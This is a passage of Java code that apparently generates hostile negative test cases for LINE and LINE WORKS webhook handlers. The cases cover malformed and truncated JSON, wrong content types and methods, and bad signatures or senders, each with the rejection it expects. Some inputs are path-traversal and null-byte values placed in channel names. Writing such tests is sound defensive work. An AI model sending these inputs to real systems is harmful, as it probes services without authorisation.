                    webhook(400, "malformed-payload", "destination"));
            add(cat, "line gadget beside an ignorable event #" + i, signed(line, utf8(lineBody(
                    "{\"type\":\"postback\",\"payload\":" + g + ",\"timestamp\":1,\"source\":{\"type\":\"user\",\"userId\":\"U1\"}}"))),
                    new Ignored(1));
            add(cat, "works gadget as content #" + i, signed(works, utf8(worksText("x").replaceFirst("\"content\":\\{.*\\}\\}$",
                    java.util.regex.Matcher.quoteReplacement("\"content\":" + g + "}")))),
                    new DeadLettered(1, g.startsWith("[") ? "content" : "type is required"));
        }
    }

    private void contentTypes() {
        String cat = "webhook: wrong content type";
        List<String> types = List.of("text/plain", "text/json", "application/xml", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=xyz", "application/octet-stream", "application/jsonp", "application/json-patch+json",
                "application/ld+json", "application/json; charset=ISO-8859-1", "application/json; charset=utf-16",
                "application/json; charset=latin1", "application/json; charset=\"us-ascii\"", "*/*", "application/*",
                "application/json, text/plain", "application", "json", ";", "application/json" + "x".repeat(2000));
        for (Endpoint p : endpoints()) {
            for (String type : types) {
                add(cat, p.tag() + " Content-Type " + (type.length() > 60 ? type.substring(0, 40) + "...(" + type.length() + ")" : type),
                        signed(p, valid(p), type), webhook(415, "unsupported-media-type"));
            }
            add(cat, p.tag() + " no Content-Type", unsigned(p, valid(p), null).withHeader(p.signatureHeader(), "x"),
                    webhook(415, "unsupported-media-type"));
        }
    }

    private void emptyBodies() {
        String cat = "webhook: empty and trivial bodies";
        for (Endpoint p : endpoints()) {
            add(cat, p.tag() + " empty body, signed", signed(p, new byte[0]), webhook(400, "malformed-json", "empty"));
            add(cat, p.tag() + " empty body, unsigned", unsigned(p, new byte[0], JSON), webhook(401, "missing-signature"));
            add(cat, p.tag() + " empty body, no content type", unsigned(p, new byte[0], null), webhook(415, "unsupported-media-type"));
            add(cat, p.tag() + " whitespace-only body, signed", signed(p, utf8(" \r\n\t ")), webhook(400, "malformed-json", "empty"));
            for (String scalar : List.of("null", "[]", "0", "\"\"", "true", "[{}]", "\"{}\"")) {
                add(cat, p.tag() + " body " + scalar, signed(p, utf8(scalar)), webhook(400, "malformed-payload", "object"));
            }
        }
        add(cat, "line body {}", signed(line, utf8("{}")), webhook(400, "malformed-payload", "destination"));
        add(cat, "works body {}: dead-lettered", signed(works, utf8("{}")), new DeadLettered(1, "type is required"));
        add(cat, "line events [] but no destination", signed(line, utf8("{\"events\":[]}")),
                webhook(400, "malformed-payload", "destination"));
    }

    private void unknownSenders() {
        String cat = "webhook: unknown channel or bot";
        byte[] body = validLine();
        String sig = Secrets.signature(HostileGateway.LINE_SECRET, body);
        for (String channel : List.of("nobody", HostileGateway.LINE_CHANNEL.toUpperCase(), HostileGateway.LINE_CHANNEL + "x",
                "x".repeat(300), "%E3%81%82", HostileGateway.LINE_CHANNEL + "%20", "%20" + HostileGateway.LINE_CHANNEL,
                HostileGateway.LINE_DESTINATION, "alice-line%00", "..%2F" + HostileGateway.LINE_CHANNEL)) {
            add(cat, "line channel '" + channel + "'", Request.post("/webhooks/line/" + channel, body, "Content-Type", JSON,
                    "x-line-signature", sig), webhook(401, "unknown-channel"));
        }
        byte[] callback = validWorks();
        String wsig = Secrets.signature(HostileGateway.WORKS_SECRET, callback);
        for (String bot : List.of("9999999", HostileGateway.WORKS_BOT_ID + "0", "0" + HostileGateway.WORKS_BOT_ID, "x".repeat(300),
                HostileGateway.WORKS_BOT_ID + "," + HostileGateway.WORKS_BOT_ID, "-1")) {
            add(cat, "works bot id '" + bot + "'", Request.post(WORKS_PATH, callback, "Content-Type", JSON, "X-WORKS-BotId", bot,
                    "X-WORKS-Signature", wsig), webhook(401, "unknown-bot"));
        }
    }

    private void envelope() {
        String cat = "webhook: LINE envelope";
        String event = lineTextEvent();
        for (String destination : List.of("\"U99999999999999999999999999999999\"", "\"\"", "\" " + line.destination() + "\"",
                "\"" + line.destination().toUpperCase() + "\"", "\"" + line.destination() + "\\u0000\"")) {
            add(cat, "destination " + destination, signed(line, utf8("{\"destination\":" + destination + ",\"events\":[" + event + "]}")),
                    webhook(401, "destination-mismatch"));
        }
        for (String destination : List.of("null", "1", "true", "[]", "{}")) {
            add(cat, "destination " + destination, signed(line, utf8("{\"destination\":" + destination + ",\"events\":[" + event + "]}")),
                    webhook(400, "malformed-payload", "destination"));
        }
        for (String events : List.of("null", "{}", "\"[]\"", "1", "false")) {
            add(cat, "events " + events, signed(line, utf8("{\"destination\":\"" + line.destination() + "\",\"events\":" + events + "}")),
                    webhook(400, "malformed-payload", "events"));
        }
        add(cat, "events missing", signed(line, utf8("{\"destination\":\"" + line.destination() + "\"}")),
                webhook(400, "malformed-payload", "events"));
        for (String scalar : List.of("null", "1", "\"text\"", "[]")) {
            add(cat, "event " + scalar + ": dead-lettered", signed(line, utf8(lineBody(scalar))), new DeadLettered(1, "JSON object"));
        }
        for (String[] broken : new String[][] {
                {"\"userId\":\"U", "\"userId\":\"U:"},
                {"\"source\":\\{\"type\":\"user\",\"userId\":\"[0-9a-fU]+\"\\}", "\"source\":{\"type\":\"user\"}"},
                {"\"timestamp\":\\d+,", ""},
                {"\"timestamp\":\\d+", "\"timestamp\":\"yesterday\""},
                {"\"id\":\"\\d+\"", "\"id\":{}"},
                {"\"text\":\"[a-z ]+\"", "\"text\":42"}}) {
            add(cat, "event with " + broken[1] + ": dead-lettered", signed(line, utf8(lineBody(lineTextEvent()
                    .replaceFirst(broken[0], broken[1])))), new DeadLettered(1, null));
        }
        for (String[] broken : new String[][] {
                {"\"userId\":\"", "\"userId\":\"a:"},
                {"\"issuedTime\":\"[^\"]+\"", "\"issuedTime\":\"yesterday\""},
                {"\"issuedTime\":\"[^\"]+\"", "\"issuedTime\":1700000000"},
                {"\"content\":\\{.*\\}\\}$", "\"content\":null}"},
                {"\"text\":\"[a-z ]+\"", "\"text\":[]"}}) {
            add(cat, "works callback with " + broken[1] + ": dead-lettered", signed(works, utf8(worksText("a b")
                    .replaceFirst(broken[0], broken[1]))), new DeadLettered(1, null));
        }
    }

    /** Every strict prefix of a valid signed body: what a cut connection delivers. */
    private void truncated() {
        String cat = "webhook: truncated JSON";
        for (Endpoint p : endpoints()) {
            byte[] body = valid(p);
            for (int len = 1; len < body.length; len++) {
                add(cat, p.tag() + " first " + len + " of " + body.length + " bytes", signed(p, Arrays.copyOf(body, len)),
                        webhook(400, "malformed-json"));
            }
        }
    }

    private void malformedSyntax() {
        String cat = "webhook: malformed JSON";
        for (Endpoint p : endpoints()) {
            String body = new String(valid(p), StandardCharsets.UTF_8);
            String inner = body.substring(1, body.length() - 1);
            Map<String, String> broken = new TreeMap<>();
            broken.put("trailing garbage", body + "x");
            broken.put("two documents", body + body);
            broken.put("trailing comma", "{" + inner + ",}");
            broken.put("block comment", "{/* c */" + inner + "}");
            broken.put("line comment", "{" + inner + "//c\n}");
            broken.put("single quotes", "{'a':1," + inner + "}");
            broken.put("unquoted key", "{a:1," + inner + "}");
            broken.put("NaN", "{\"a\":NaN," + inner + "}");
            broken.put("Infinity", "{\"a\":Infinity," + inner + "}");
            broken.put("leading zero", "{\"a\":0123," + inner + "}");
            broken.put("hex number", "{\"a\":0x10," + inner + "}");
            broken.put("plus sign", "{\"a\":+1," + inner + "}");
            broken.put("raw newline in string", "{\"a\":\"x\ny\"," + inner + "}");
            broken.put("raw control char in string", "{\"a\":\"x\u0001y\"," + inner + "}");
            broken.put("bad escape", "{\"a\":\"\\x41\"," + inner + "}");
            broken.put("short unicode escape", "{\"a\":\"\\u12\"," + inner + "}");
            String firstKey = body.substring(1, body.indexOf(':'));
            broken.put("duplicate top-level key", "{" + firstKey + ":\"x\"," + inner + "}");
            broken.put("duplicate nested key", body.replaceFirst("\"source\":\\{", "\"source\":{\"userId\":\"a\","));
            broken.put("missing colon", "{\"a\" 1," + inner + "}");
            broken.put("unclosed string", "{\"a\":\"x," + inner + "}");
            broken.put("extra closing brace", body + "}");
            broken.put("missing comma", "{\"a\":1 " + inner + "}");
            broken.put("true misspelt", "{\"a\":ture," + inner + "}");
            for (var b : broken.entrySet()) {
                add(cat, p.tag() + " " + b.getKey(), signed(p, utf8(b.getValue())), webhook(400, "malformed-json"));
            }
        }
    }

    private void wrongMethods() {
        String cat = "webhook: wrong method";
        for (Endpoint p : endpoints()) {
            byte[] body = valid(p);
            for (String method : List.of("GET", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE")) {
                boolean hasBody = !method.equals("GET") && !method.equals("TRACE") && !method.equals("OPTIONS");
                Request r = signed(p, body);
                add(cat, p.tag() + " " + method, new Request(method, r.path(), r.headers(), hasBody ? body : null, false),
                        HostileCase.http(405));
            }
        }
    }

    // ---------------------------------------------------------------- JSON helpers

    private static JsonNode read(byte[] body) {
        try {
            return Json.mapper().readTree(body);
        } catch (java.io.IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] write(JsonNode node, boolean pretty) {
        try {
            return pretty ? Json.mapper().writer(SerializationFeature.INDENT_OUTPUT).writeValueAsBytes(node)
                    : Json.mapper().writeValueAsBytes(node);
        } catch (java.io.IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static JsonNode firstKeyLast(JsonNode node) {
        ObjectNode out = Json.mapper().createObjectNode();
        List<String> names = new ArrayList<>();
        node.fieldNames().forEachRemaining(names::add);
        names.add(names.remove(0));
        names.forEach(n -> out.set(n, node.get(n)));
        return out;
    }

    private static JsonNode sorted(JsonNode node, boolean reverse) {
        if (node.isObject()) {
            List<String> names = new ArrayList<>();
            node.fieldNames().forEachRemaining(names::add);
            names.sort(reverse ? java.util.Comparator.reverseOrder() : java.util.Comparator.naturalOrder());
            ObjectNode out = Json.mapper().createObjectNode();
            for (String n : names) {
                out.set(n, sorted(node.get(n), reverse));
            }
            return out;
        }
        if (node.isArray()) {
            var out = Json.mapper().createArrayNode();
            for (Iterator<JsonNode> it = node.elements(); it.hasNext(); ) {
                out.add(sorted(it.next(), reverse));
            }
            return out;
        }
        return node;
    }

    private static byte[] hmac(String algorithm, String secret, byte[] body) {
        try {
            Mac mac = Mac.getInstance(algorithm);
            mac.init(new SecretKeySpec(secret.getBytes(StandardCharsets.UTF_8), algorithm));
            return mac.doFinal(body);
        } catch (NoSuchAlgorithmException | InvalidKeyException e) {
            throw new IllegalStateException(e);
        }
    }
}
